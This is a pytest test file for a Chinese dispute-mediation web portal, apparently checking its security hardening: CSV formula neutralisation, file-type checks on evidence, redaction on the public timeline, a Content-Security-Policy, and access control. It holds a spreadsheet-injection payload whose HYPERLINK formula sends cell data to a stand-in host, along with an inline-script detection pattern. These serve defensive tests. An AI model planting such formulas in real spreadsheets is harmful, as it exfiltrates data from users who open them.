"""What leaves the portal: spreadsheet cells that cannot run, evidence under the extension of
its real type, a public timeline of texts written for the public, no cached ID reveals, a
Content-Security-Policy, API docs behind a staff login, reference data scoped."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cases.evidence import add_evidence
from mediation import services as mediation
from tests.cases.factories import a_case
from tests.conftest import make_staff, org

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + b" " * 100


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "=1+2", "+86", "-1", "@SUM(A1)"],
)
def test_a_party_name_that_is_a_formula_is_exported_as_text(client, supervisor, name):
    from cases.models import PartySide
    from cases.services import PartyInput

    a_case(parties=[PartyInput(side=PartySide.APPLICANT, name=name, phone="13812345678")])
    client.force_login(supervisor)

    response = client.get("/cases/export.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][6] == "'" + name


def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
    from zhanjiang_portal.spreadsheets import safe_row

    assert safe_row(["\tx", "\r=1", "陈某", 12]) == ["'\tx", "'\r=1", "陈某", 12]


def test_evidence_is_stored_and_served_under_the_extension_of_its_real_type(client, supervisor):
    case = a_case()
    upload = SimpleUploadedFile("合同.bat", PDF, content_type="application/x-msdownload")

    evidence = add_evidence(case, upload)

    assert evidence.stored_name.endswith(".pdf")
    assert evidence.original_name == "合同.bat"
    client.force_login(supervisor)
    response = client.get(reverse("case-evidence-file", args=[case.pk, evidence.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert "filename*=utf-8''%E5%90%88%E5%90%8C.pdf" in response["Content-Disposition"]


def test_the_public_timeline_shows_no_staff_text_or_full_name(client, supervisor):
    chen = make_staff(
        "chen_hy", "mediator", "room-440804-family", last_name="陈", first_name="海燕"
    )
    lin = make_staff("lin_xm", "mediator", "room-440804-family", last_name="林", first_name="小明")
    case = mediation.route_manually(
        case=a_case(), organisation=org("room-440804-family"), actor=supervisor
    )
    target = chen if case.assignee_id != chen.pk else lin
    case = mediation.reassign(
        case=case, mediator=target, actor=supervisor, reason="当事人来电 13912345678 要求换人"
    )

    response = client.get("/disputes/track/", {"number": case.number, "code": case.tracking_code})
    api = client.get(f"/api/v1/public/disputes/{case.number}/", {"code": case.tracking_code})

    body = response.content.decode()
    assert "已更换调解员。" in body
    assert "13912345678" not in body
    assert "陈海燕" not in body
    assert "林小明" not in body
    assert f"{target.last_name}调解员" in body
    texts = " ".join(event["text"] for event in api.json()["events"])
    assert "13912345678" not in texts
    assert "海燕" not in texts
    assert "已更换调解员。" in texts


def test_an_id_reveal_page_is_not_cached(client, supervisor):
    case = a_case()
    party = case.parties.get(side="applicant")
    client.force_login(supervisor)

    response = client.post(reverse("case-party-reveal", args=[case.pk, party.pk]))

    assert response.status_code == 200
    assert "440802199001011238" in response.content.decode()
    assert "no-store" in response["Cache-Control"]


def test_every_page_carries_a_strict_content_security_policy(client):
    response = client.get("/")

    policy = response["Content-Security-Policy"]
    assert "script-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy


def test_no_template_holds_inline_script_or_style():
    inline = re.compile(
        r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\son[a-z]+\s*=|\sstyle\s*=|javascript:", re.I
    )
    offenders = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "templates").rglob("*.html")
        if inline.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_api_docs_need_a_staff_login_when_debug_is_off(client, settings, mediator):
    settings.API_DOCS_PUBLIC = False

    assert client.get("/api/schema/").status_code in (401, 403)
    assert client.get("/api/docs/").status_code == 302
    client.force_login(mediator)
    assert client.get("/api/schema/").status_code == 200
    assert client.get("/api/docs/").status_code == 200


def test_a_setting_opens_the_api_docs(client, settings):
    settings.API_DOCS_PUBLIC = True

    assert client.get("/api/schema/").status_code == 200


@pytest.mark.parametrize("persona", ["mediator", "village_clerk"])
def test_the_routing_rules_api_refuses_staff_who_do_not_route(client, request, persona):
    client.force_login(request.getfixturevalue(persona))

    response = client.get("/api/v1/mediation/routing-rules/")

    assert response.status_code == 403
    assert response.json()["detail"] == "只有分派案件或管理分派规则的人员可以查看分派规则。"


def test_the_routing_rules_api_answers_those_who_route(client, window_clerk):
    client.force_login(window_clerk)

    response = client.get("/api/v1/mediation/routing-rules/")

    assert response.status_code == 200
    assert response.json()


def test_the_public_reference_lists_are_deliberately_open(client):
    assert client.get("/api/v1/public/categories/").status_code == 200
    assert client.get("/api/v1/public/regions/").status_code == 200
